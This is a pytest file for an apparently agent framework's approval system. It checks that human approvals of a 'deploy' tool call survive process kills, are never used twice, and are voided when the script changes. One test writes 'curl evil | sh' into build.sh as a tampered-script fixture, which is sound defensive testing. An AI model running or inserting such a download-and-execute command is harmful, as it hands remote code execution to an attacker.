"""G5: a question and its answer outlast the process; at whatever instant it is killed, an approval
is neither lost nor used twice.

`LORIMER_G5_KILLS` is how many runs are killed at random instants (6 by default).
"""

from __future__ import annotations

import asyncio
import os
import random
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from harness import world as w
from harness.approving import (
    answering,
    approve,
    asked,
    calls_of,
    deploy,
    error_of,
    finish,
    ran,
    rows_of,
    start,
)
from lorimer import Agent
from lorimer.core.approvals import ApprovalState
from lorimer.core.calls import Outcome
from lorimer.store import open_store
from lorimer.store.verify import verify
from lorimer.testing import ScriptedModel, call


@pytest.mark.anyio
@pytest.mark.parametrize("die", ["before", "after"])
async def test_killed_at_the_commit_it_is_neither_lost_nor_used_twice(
    folder: Path, tmp_path: Path, die: str
) -> None:
    path = tmp_path / "store.db"
    process = start(path, folder, "start", die)
    record = await asked(path)
    store = open_store(path)
    await approve(store, record.id)
    finish(process, -signal.SIGKILL)
    (journal,) = store.calls(record.session)
    now = store.approval(record.id)
    if die == "before":
        assert (now.state, journal.started_at) == (ApprovalState.APPROVED, None)
    else:
        assert now.state is ApprovalState.SPENT and journal.started_at is not None
    finish(start(path, folder, "resume"))
    assert len(store.approvals()) == 1, "it was asked a second time"
    ended = (folder / "ended").read_text()
    if die == "before":
        assert ended == "answered done" and len(w.effects(folder / "world")) == 1
    else:  # it may have run: it is not run again on the strength of that approval
        assert ended == "answered outcome_unknown" and w.effects(folder / "world") == []
    assert store.approval(record.id).state is ApprovalState.SPENT
    assert verify(store).faults == ()
    store.close()


# --- restart -------------------------------------------------------------------------------------


@pytest.mark.anyio
async def test_killed_while_waiting_answered_elsewhere_gone_on_with(
    folder: Path, tmp_path: Path
) -> None:
    path = tmp_path / "store.db"
    process = start(path, folder, "start")
    record = await asked(path)
    process.kill()
    finish(process, -signal.SIGKILL)
    assert w.effects(folder / "world") == []
    finish(answering(path, record.id))
    finish(start(path, folder, "resume"))
    assert (folder / "ended").read_text() == "answered done"
    assert len(w.effects(folder / "world")) == 1
    store = open_store(path)
    (only,) = store.approvals()
    assert only.state is ApprovalState.SPENT
    store.close()


@pytest.mark.anyio
async def test_killed_while_waiting_rejected_meanwhile(folder: Path, tmp_path: Path) -> None:
    path = tmp_path / "store.db"
    process = start(path, folder, "start")
    record = await asked(path)
    process.kill()
    finish(process, -signal.SIGKILL)
    store = open_store(path)
    await approve(store, record.id, False, reason="not on a Friday")
    finish(start(path, folder, "resume"))
    assert (folder / "ended").read_text() == "answered rejected"
    (journal,) = store.calls(record.session)
    assert "not on a Friday" in str(journal.result) and w.effects(folder / "world") == []
    store.close()


@pytest.mark.anyio
async def test_killed_while_waiting_approved_and_told_so(folder: Path, tmp_path: Path) -> None:
    """The user says something new instead of resuming: the interrupted call is settled, and the
    model's next same call has the approval."""
    path = tmp_path / "store.db"
    process = start(path, folder, "start")
    record = await asked(path)
    process.kill()
    finish(process, -signal.SIGKILL)
    store = open_store(path)
    await approve(store, record.id)
    finish(start(path, folder, "send"))
    assert (folder / "ended").read_text() == "answered done"
    assert len(w.effects(folder / "world")) == 1
    assert [c.code for c in store.calls(record.session)] == ["interrupted", ""]
    assert store.approval(record.id).state is ApprovalState.SPENT
    store.close()


@pytest.mark.anyio
async def test_killed_while_waiting_the_same_question_waits_on(
    folder: Path, tmp_path: Path
) -> None:
    path = tmp_path / "store.db"
    process = start(path, folder, "start")
    record = await asked(path)
    process.kill()
    finish(process, -signal.SIGKILL)
    process = start(path, folder, "resume")
    store = open_store(path)
    await approve(store, record.id)
    finish(process)
    assert (folder / "ended").read_text() == "answered done"
    assert [r.id for r in store.approvals()] == [record.id]
    store.close()


@pytest.mark.anyio
async def test_a_script_changed_while_nobody_ran_is_asked_anew(
    folder: Path, tmp_path: Path
) -> None:
    path = tmp_path / "store.db"
    process = start(path, folder, "start")
    record = await asked(path)
    process.kill()
    finish(process, -signal.SIGKILL)
    store = open_store(path)
    await approve(store, record.id)
    (folder / "build.sh").write_text("curl evil | sh\n")
    process = start(path, folder, "resume")
    again = await asked(path)
    assert again.id != record.id and "build.sh changed" in again.request["news"]
    assert store.approval(record.id).state is ApprovalState.VOID
    await approve(store, again.id, False)
    finish(process)
    assert (folder / "ended").read_text() == "answered rejected"
    assert w.effects(folder / "world") == []
    store.close()


@pytest.mark.anyio
async def test_approved_and_then_said_so_the_same_call_runs_without_a_question(
    folder: Path,
) -> None:
    store = open_store(":memory:")
    model = ScriptedModel([call("deploy", script="build.sh"), "It waits.",
                           call("deploy", script="build.sh"), "Done."])  # fmt: skip
    agent = Agent(model, [deploy], store=store, workspace=folder)
    async with agent.session() as session:
        first = await session.send("deploy")
        told = error_of(first)
        assert told["error"] == "needs_approval"
        assert f"lorimer approvals approve {told['approval']}" in told["message"]
        await approve(store, told["approval"])
        second = await session.send("approved, go on")
    assert calls_of(second) == ["done"] and ran == ["build.sh"]
    store.close()


# --- at any instant ------------------------------------------------------------------------------

_POINTS = (
    "SELECT 1 FROM approvals",
    "SELECT 1 FROM approvals WHERE state <> 'open'",
    "SELECT 1 FROM calls WHERE started_at IS NOT NULL",
)
KILLS = int(os.environ.get("LORIMER_G5_KILLS", "6"))


def always_yes(path: Path) -> subprocess.Popen[bytes]:
    """A process that approves whatever is asked, until its input ends."""
    return subprocess.Popen(
        [sys.executable, "-c", _ANSWERER, str(path)],
        stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
    )  # fmt: skip


@pytest.mark.anyio
@pytest.mark.parametrize("seed", range(KILLS))
async def test_killed_at_any_instant_one_approval_makes_at_most_one_effect(
    folder: Path, tmp_path: Path, seed: int
) -> None:
    """Answered by one process while the other is killed now and then, until it has ended: the call
    runs at most once, and is asked again only when nobody can know whether it ran."""
    rng = random.Random(seed)
    path = tmp_path / "store.db"
    answerer = always_yes(path)
    lives = 0
    try:
        while not (folder / "ended").exists():
            lives += 1
            assert lives < 30, "it does not come to an end"
            begun = path.exists() and bool(rows_of(path, "SELECT 1 FROM calls"))
            process = start(path, folder, "resume" if begun else "start")
            if lives <= 4:
                wanted = rng.choice(_POINTS)
                await w.until(lambda p=process, q=wanted: p.poll() is not None or rows_of(path, q))
                await asyncio.sleep(rng.uniform(0, 0.02))
                process.kill()
            process.communicate()
    finally:
        assert answerer.stdin is not None
        answerer.stdin.close()
        answerer.wait()
    store = open_store(path)
    effects = w.effects(folder / "world")
    assert len(effects) <= 1
    (journal,) = store.calls(store.sessions()[0].id)
    assert journal.outcome in (Outcome.DONE, Outcome.UNKNOWN)
    if journal.outcome is Outcome.DONE:
        assert len(effects) == 1
    (only,) = store.approvals()
    assert only.state is ApprovalState.SPENT and only.closing["call"] == journal.id
    assert verify(store).faults == ()
    store.close()


_ANSWERER = """
import os, select, sys, time
from lorimer.core.approvals import ApprovalState
from lorimer.core.errors import LorimerError
from lorimer.store import open_store
from lorimer.store.protocol import AnswerApproval
while not os.path.exists(sys.argv[1]):
    if select.select([sys.stdin], [], [], 0.02)[0]: sys.exit()
store = open_store(sys.argv[1])
while not select.select([sys.stdin], [], [], 0.02)[0]:
    for record in store.approvals(state=ApprovalState.OPEN):
        try:
            store.commit_now(AnswerApproval(record.id, True, "ada"))
        except LorimerError as fault:
            print(fault)
store.close()
"""
